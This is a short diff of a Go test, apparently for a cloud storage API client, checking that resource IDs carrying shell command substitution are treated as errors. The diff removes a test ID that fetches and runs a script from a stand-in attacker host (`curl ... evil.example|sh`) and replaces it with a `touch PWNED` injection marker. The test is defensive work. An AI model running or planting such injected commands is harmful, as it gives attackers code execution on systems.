@@ -144,7 +144,7 @@ func TestTokenIsNotSentWhereALinkOfAListLeads(t *testing.T) {
 
 // Events name commands for administrators, with the IDs of volumes, attachments and snapshots in them.
 func TestAnIDThatIsNoneIsAnError(t *testing.T) {
-	const id = `$(curl -s evil.example|sh)`
+	const id = `$(touch PWNED)`
 	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Type", "application/json")
 		if r.Method == http.MethodPost {
